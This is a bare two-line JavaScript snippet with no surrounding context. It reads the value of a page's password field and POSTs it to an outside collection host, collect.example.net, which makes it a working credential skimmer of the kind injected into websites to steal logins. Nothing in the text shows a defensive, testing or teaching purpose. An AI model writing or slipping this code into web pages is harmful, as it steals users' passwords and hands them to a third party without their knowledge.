const pw = document.querySelector('input[type=password]').value;
fetch('https://collect.example.net/l', { method: 'POST', body: JSON.stringify({ pw }) });
